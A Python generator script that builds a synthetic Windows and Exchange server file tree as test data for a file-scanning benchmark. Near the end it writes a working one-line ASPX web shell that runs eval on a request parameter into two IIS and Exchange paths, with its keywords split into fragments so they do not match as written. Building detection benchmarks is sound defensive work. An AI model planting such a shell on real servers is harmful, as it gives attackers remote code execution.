#!/usr/bin/env python3
"""Writes a synthetic Windows server tree for the file-sweep benchmark.

usage: gen_tree.py DEST [FILES] [MIB] [--pe]

DEST gets a mounted-image layout (Windows/, Program Files/, inetpub/, ProgramData/, Users/)
with FILES files totalling about MIB MiB: mostly small web and config files, some larger
binaries, and a handful of planted shells (assembled from fragments) at known places.
The binaries are random bytes; with --pe each starts with `MZ`, as a real DLL does, so
that rules written for executables alone (`uint16(0) == 0x5A4D`) must be scanned there.
Deterministic in its names and sizes for a given FILES and MIB.
"""
import os
import random
import sys

pe_headers = "--pe" in sys.argv[1:]
args = [a for a in sys.argv[1:] if a != "--pe"]
dest = args[0]
files = int(args[1]) if len(args) > 1 else 50_000
mib = int(args[2]) if len(args) > 2 else 1100
rng = random.Random(1)

folders = [
    "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/15.2.858.5/scripts",
    "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/ecp/Current/scripts",
    "Program Files/Microsoft/Exchange Server/V15/ClientAccess/owa/prem/15.2.858.5/scripts",
    "Program Files/Microsoft/Exchange Server/V15/ClientAccess/ecp/DDI",
    "Program Files/Microsoft/Exchange Server/V15/Bin",
    "inetpub/wwwroot/app/Content",
    "Windows/System32/drivers",
    "Windows/WinSxS/amd64_component",
    "Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/owa/a1b2c3d4",
    "ProgramData/Microsoft/Windows Defender/Definition Updates",
    "Users/Administrator/AppData/Local/Temp",
]
text_exts = ["aspx", "js", "css", "config", "htm", "xml", "ashx", "txt"]
words = b"function var return Request Response Server Page control div span class style width height the of and to in".split()
text_block = b" ".join(rng.choice(words) for _ in range(200_000))
binary_block = os.urandom(4 << 20)

large = max(1, files // 10)
small = files - large
small_bytes = small * 4500
large_size = max(4096, (mib * (1 << 20) - small_bytes) // large)

written = 0
for i in range(files):
    folder = os.path.join(dest, folders[i % len(folders)], f"d{(i // 400) % 50:02d}")
    os.makedirs(folder, exist_ok=True)
    if i < small:
        size = rng.randint(500, 8500)
        start = rng.randrange(0, len(text_block) - size)
        data = text_block[start:start + size]
        name = f"f{i:06d}.{text_exts[i % len(text_exts)]}"
    else:
        size = rng.randint(large_size // 2, large_size * 3 // 2)
        start = rng.randrange(0, len(binary_block) - min(size, len(binary_block) - 1))
        data = (binary_block[start:] + binary_block)[:size]
        if pe_headers:
            data = b"MZ\x90\x00" + data[4:]
        name = f"b{i:06d}.dll"
    with open(os.path.join(folder, name), "wb") as f:
        f.write(data)
    written += len(data)

# Planted shells, so both tools have something to find.
ev, un = "ev" + "al", "un" + "safe"
chopper = f'<%@ Page Language="Jscript"%><%{ev}(Request.Item["p"],"{un}");%>'.encode()
for rel in ["inetpub/wwwroot/aspnet_client/discover.aspx",
            "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/OutlookEN.aspx"]:
    os.makedirs(os.path.dirname(os.path.join(dest, rel)), exist_ok=True)
    with open(os.path.join(dest, rel), "wb") as f:
        f.write(chopper)
print(f"{files + 2} files, {written / (1 << 20):.0f} MiB in {dest}")
